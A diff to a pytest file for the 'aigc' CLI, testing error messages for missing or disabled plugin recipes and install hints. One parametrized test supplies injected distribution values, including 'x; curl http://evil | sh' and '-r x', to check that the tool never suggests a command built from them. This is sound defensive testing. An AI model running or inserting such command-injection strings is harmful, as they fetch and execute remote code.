@@ -25,22 +25,50 @@ def test_a_run_remembers_its_plugins(needs) -> None:
     assert needs({}) == {"recipe": image, "modality": image, "dataset": image}
 
 
+@pytest.fixture
+def of_a_gone_plugin(quick_run, needs):
+    """Make the run one of a recipe that no plugin here brings."""
+    path = quick_run.path / "config.yaml"
+    path.write_text(path.read_text().replace("recipe: image/dcgan", "recipe: points/gan"))
+
+    def change(distribution: object) -> None:
+        needs({"recipe": {"plugin": "points", "distribution": distribution}})
+
+    return change
+
+
 @pytest.mark.parametrize("command", ["generate", "resume", "evaluate"])
 def test_a_plugin_that_is_gone_is_named_with_the_way_to_get_it(
-    aigc, quick_run, needs, command
+    aigc, quick_run, of_a_gone_plugin, command
 ) -> None:
-    needs({"recipe": {"plugin": "points", "distribution": "aigc-points"}})
+    of_a_gone_plugin("aigc-points")
     result = aigc(command, quick_run.path)
     assert result.code == 2
-    assert "needs the plugin 'points' (aigc-points) for its recipe" in result.err
+    assert "needs the recipe 'points/gan' of the plugin aigc-points" in result.err
     assert "aigc plugins install aigc-points" in result.err
+
+
+@pytest.mark.parametrize("distribution", ["x; curl http://evil | sh", ["aigc", "x"], None, "-r x"])
+def test_a_run_s_folder_cannot_suggest_a_command(
+    aigc, quick_run, of_a_gone_plugin, distribution
+) -> None:
+    of_a_gone_plugin(distribution)
+    result = aigc("generate", quick_run.path)
+    assert result.code == 2
+    assert "There is no recipe 'points/gan'" in result.err
+    assert "install" not in result.err
+
+
+def test_another_plugin_that_brings_the_same_will_do(aigc, quick_run, needs) -> None:
+    needs({"recipe": {"plugin": "old-name", "distribution": "aigc-old-name"}})
+    assert aigc("generate", quick_run.path, "--count", 1).code == 0
 
 
 def test_a_plugin_that_is_switched_off_is_named_with_the_way_back(aigc, quick_run) -> None:
     aigc("plugins", "disable", "image")
     result = aigc("generate", quick_run.path)
     assert result.code == 2
-    assert "needs the plugin 'image'" in result.err
+    assert "needs the recipe 'image/dcgan' of the plugin 'image', which is not" in result.err
     assert "aigc plugins enable image" in result.err
     assert aigc("runs", quick_run.path.parent, "--json").code == 0
 
